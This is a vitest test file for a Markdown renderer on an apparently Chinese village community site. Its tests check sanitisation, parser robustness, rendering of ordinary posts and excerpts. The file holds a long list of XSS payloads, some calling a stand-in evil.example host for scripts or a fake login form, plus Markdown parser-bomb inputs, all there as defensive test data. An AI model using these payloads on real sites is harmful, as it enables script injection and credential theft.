import { readFileSync } from 'node:fs';
import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { MARKDOWN_ENGINE, plainText, renderMarkdown } from '#server/kernel/markdown.ts';

const VILLAGER = { limit: 5_000 };
const OFFICIAL = { limit: 20_000, isOfficial: true };

function html(source: string, options: { limit: number; isOfficial?: boolean } = VILLAGER): string {
  const rendered = renderMarkdown(source, options);
  if (!rendered.ok) throw new Error(rendered.code);
  return rendered.value.html;
}

/** A line end changes nothing of what is read, and is nothing that plain words hold. */
test.each([
  '我家门口也是这样，晚上看不清',
  '3组12户：每户3天、5天！',
  'www点什么都不是',
  'AB组（东头）…',
  '１２３４步',
  '“村里说”——《通知》',
])('plain words read as if Markdown had been looked for: %s', (words) => {
  expect(html(words)).toBe(html(`${words}\n`));
  expect(html(words, OFFICIAL)).toBe(html(`${words}\n`, OFFICIAL));
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" ',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=javascript:alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action=//evil.example><input name=password><button>登录</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">盖住整页</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=x onclick=alert(1)>x</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<x onclick=alert(1) tabindex=1 autofocus>x</x>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&#x73;cript:alert(1))',
  '[x](java\u{0}script:alert(1))',
  '[x](\u{1}javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](  javascript:alert(1))',
  '[x](%6aavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://cuntou.example/1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](https:\\evil.example)',
  '[x](weixin://dl/business)',
  '[x](tel:110;javascript:alert(1))',
  '[x](/ "onmouseover=alert(1) x=")',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  "[x](https://a.example/ '\"><script>alert(1)</script>')",
  '<javascript:alert(1)>',
  '<https://a.example/"onclick=alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '![x"onerror="alert(1)](x)',
  '![<img src=x onerror=alert(1)>](x)',
  '[![x](x)](javascript:alert(1))',
  '[a]: javascript:alert(1)\n\n[a]',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '- <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  '|[a](javascript:alert(1))|\n|-|\n|x|',
  '- [x] <input onfocus=alert(1) autofocus>',
  'https://a.example/<script>alert(1)</script>',
  'www.a.example/"onmouseover=alert(1)',
  '\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}',
  '</p></div></main><h1>县政府通知</h1>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '{{constructor.constructor("alert(1)")()}}',
  '\u{24}{alert(1)}',
  '\u{202E}tpircs',
];

const HARMLESS_TAGS =
  'p br strong em del a ul ol li blockquote code pre hr h3 h4 h5 h6 table thead tbody tr th td div'.split(
    ' ',
  );
const HARMLESS_LINK = /^(?:https?:\/\/|mailto:|tel:[\d+]|\/(?![/\\])|#|\?)/;

/** Reads the output as a browser would and tells everything that is not inert. */
function dangersOf(output: string): string[] {
  const dangers: string[] = [];
  const reader = new Parser({
    onopentag(tag, attributes) {
      if (!HARMLESS_TAGS.includes(tag)) dangers.push(`<${tag}>`);
      for (const [name, value] of Object.entries(attributes)) {
        const isFine =
          name === 'href'
            ? HARMLESS_LINK.test(value)
            : ['title', 'rel', 'start', 'align', 'tabindex', 'class'].includes(name);
        if (!isFine) dangers.push(`${tag} ${name}=${value}`);
      }
    },
    oncomment: (words) => dangers.push(`comment ${words}`),
    onprocessinginstruction: (name) => dangers.push(`instruction ${name}`),
  });
  reader.end(output);
  return dangers;
}

describe('hostile words', () => {
  test.each(HOSTILE)('%s is inert', (source) => {
    expect(dangersOf(html(source))).toEqual([]);
    expect(dangersOf(html(source, OFFICIAL))).toEqual([]);
  });

  test('all of them in one text are inert and each opening tag is closed', () => {
    const output = html(HOSTILE.join('\n\n'), OFFICIAL);

    expect(dangersOf(output)).toEqual([]);
    for (const tag of ['a', 'p', 'em', 'strong', 'li', 'code', 'table', 'div']) {
      const opened = output.match(new RegExp(`<${tag}[ >]`, 'g'))?.length ?? 0;
      const closed = output.match(new RegExp(`</${tag}>`, 'g'))?.length ?? 0;
      expect([tag, opened]).toEqual([tag, closed]);
    }
  });

  test('a tag that someone typed is read as he typed it', () => {
    expect(html('写<b>粗</b>不行')).toBe('<p>写&lt;b&gt;粗&lt;/b&gt;不行</p>');
  });
});

const BOMBS: [name: string, source: string][] = [
  ['nested quotes', '>'.repeat(20_000)],
  ['nested quotes with spaces', '> '.repeat(10_000)],
  ['nested lists', '1. '.repeat(6_600)],
  ['lists nested by indentation', indentedList(140)],
  ['opening brackets', '['.repeat(20_000)],
  ['opening pictures', '!['.repeat(10_000)],
  ['opening links', '[a]('.repeat(5_000)],
  ['stars', '*'.repeat(20_000)],
  ['crossing stars', '***a* '.repeat(3_300)],
  ['underscores', '_a'.repeat(10_000)],
  ['bold that never ends', '**“a'.repeat(5_000)],
  ['backticks', '`a``'.repeat(5_000)],
  ['opening tags', '<a '.repeat(6_600)],
  ['comments', '<!--'.repeat(5_000)],
  ['table cells', `${'|a'.repeat(5_000)}\n${'|-'.repeat(5_000)}`],
  ['addresses', 'a@'.repeat(10_000)],
  ['spaces', `${' '.repeat(19_999)}a`],
  ['headings under lists', 'a\n-\n'.repeat(5_000)],
];

function indentedList(depth: number): string {
  return Array.from({ length: depth }, (_, level) => `${'  '.repeat(level)}- a`).join('\n');
}

describe('words made to break the reader', () => {
  test.each(BOMBS)('%s are read to their end', (_name, source) => {
    expect(renderMarkdown(source.slice(0, 20_000), OFFICIAL).ok).toBe(true);
    expect(renderMarkdown(source.slice(0, 5_000), VILLAGER).ok).toBe(true);
  });

  test('a text over the limit is refused before it is read', () => {
    expect(renderMarkdown('>'.repeat(2_000_000), VILLAGER)).toMatchObject({ code: 'tooLong' });
  });

  test('the limit counts characters, not units of storage', () => {
    expect(renderMarkdown('𬭎'.repeat(5_000), VILLAGER).ok).toBe(true);
    expect(renderMarkdown('𬭎'.repeat(5_001), VILLAGER).ok).toBe(false);
    expect(renderMarkdown('村'.repeat(20_000), OFFICIAL).ok).toBe(true);
  });

  test('a text nested too deeply is shown as it was typed', () => {
    expect(html(`${'> '.repeat(13)}a\n\nb`)).toBe(`<p>${'&gt; '.repeat(13)}a</p>\n<p>b</p>`);
  });
});

describe('what people write', () => {
  test.each([
    ['lines are kept', '第一行\n第二行', '<p>第一行<br />第二行</p>'],
    ['bold beside “quotes” is bold', '**“四议”**即会', '<p><strong>“四议”</strong>即会</p>'],
    ['bold after a word is bold', '看**（三）**条', '<p>看<strong>（三）</strong>条</p>'],
    ['code in bold', '**用`a*b`**好', '<p><strong>用<code>a*b</code></strong>好</p>'],
    ['stress in bold', '**要*快*办**。', '<p><strong>要<em>快</em>办</strong>。</p>'],
    ['stars in code', '`**x**`', '<p><code>**x**</code></p>'],
    ['stars alone', '**', '<p>**</p>'],
    ['days from 3 to 10', '3~5天，8~10天', '<p>3~5天，8~10天</p>'],
    ['a product', '2*3*4米', '<p>2*3*4米</p>'],
    ['a note in brackets', '[注]: 明天停水', '<p>[注]: 明天停水</p>'],
    ['a line under words', '停水\n---', '<p>停水</p>\n<hr />'],
    ['a table among words', 'a|b\n-|-\n1|2', '<p>a|b<br />-|-<br />1|2</p>'],
    ['a picture', '![灯](https://x.example/1.png)', '<p>灯</p>'],
    ['a task', '- [x] 修好\n- [ ] 刷漆', '<ul>\n<li>☑ 修好</li>\n<li>☐ 刷漆</li>\n</ul>'],
    ['a heading', '# 一\n## 二', '<h3>一</h3>\n<h4>二</h4>'],
    ['a page here', '[看](/v/shiti)', '<p><a href="/v/shiti">看</a></p>'],
    ['a year as a list', '2026. 修路', '<ol start="2026">\n<li>修路</li>\n</ol>'],
    ['nothing', '', ''],
  ])('%s', (_name, source, expected) => {
    expect(html(source)).toBe(expected);
  });

  test('words indented with spaces are no program', () => {
    expect(html('    今天停水')).not.toContain('<pre>');
  });

  test('a bare address ends where the Chinese sentence goes on', () => {
    expect(html('见https://a.example/x?b=1，谢谢')).toBe(
      '<p>见<a href="https://a.example/x?b=1" rel="nofollow ugc noopener">https://a.example/x?b=1</a>，谢谢</p>',
    );
  });

  test('official words may hold a table, which scrolls in its own box', () => {
    const table = html('|项目|元|\n|-|-:|\n|石子|6,800|', OFFICIAL);

    expect(table).toContain('<div class="prose__table" tabindex="0"><table>');
    expect(table).toContain('<td align="right">6,800</td>');
  });

  test('the engine names the versions that are installed', () => {
    const installed = ['marked', 'sanitize-html'].map((name) => {
      const { version } = JSON.parse(readFileSync(`node_modules/${name}/package.json`, 'utf8'));
      return `${name}@${version}`;
    });

    expect(MARKDOWN_ENGINE).toBe(installed.join(' '));
  });
});

describe('excerpts', () => {
  test.each([
    ['**路灯**不亮\n三盏', 20, '路灯不亮 三盏'],
    ['# 通知\n\n明天停水。', 20, '通知 明天停水。'],
    ['- 一\n- 二', 20, '一 二'],
    ['a <3 & "b"', 20, 'a <3 & "b"'],
    ['一二三四五六', 4, '一二三四…'],
    ['一二三四', 4, '一二三四'],
    ['👨‍👩‍👧‍👦家𬭎', 2, '👨‍👩‍👧‍👦家…'],
    ['', 4, ''],
  ])('of %s at most %i characters are %s', (source, length, expected) => {
    expect(plainText(html(source), length)).toBe(expected);
  });
});
